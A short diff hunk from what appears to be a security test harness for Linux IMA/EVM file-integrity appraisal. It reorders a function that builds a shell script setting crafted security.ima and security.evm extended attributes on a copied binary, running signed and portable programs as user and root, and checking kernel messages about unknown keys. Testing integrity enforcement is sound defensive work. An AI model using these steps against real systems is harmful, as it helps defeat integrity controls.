@@ -454,10 +454,11 @@ def attack_script(work, between=""):
     ima, evm = evm_portable(key, keyid, root_file("/usr/bin/true"))
     return (signed_program(work, evil) + "echo %s >/run/evil.b64; chmod 644 /run/evil.b64\n"
             % base64.b64encode(der).decode()
-            + 'cat >/run/attack <<"END"\n%sEND\n' % ATTACK + as_user_and_root("ima", "_ima", "/run/signed") + between
+            + 'cat >/run/attack <<"END"\n%sEND\n' % ATTACK
             + "cp /usr/bin/true /run/portable; chmod 755 /run/portable\n"
             + "setfattr -n security.ima -v 0x%s /run/portable; echo portable-ima=$?\n" % ima.hex()
             + "setfattr -n security.evm -v 0x%s /run/portable; echo portable-evm=$?\n" % evm.hex()
+            + as_user_and_root("ima", "_ima", "/run/signed") + between
             + as_user_and_root("evm", "_evm", "/run/portable") + EXTEND
             + 'dmesg | grep "Request for unknown key" | tail -4\n')
 
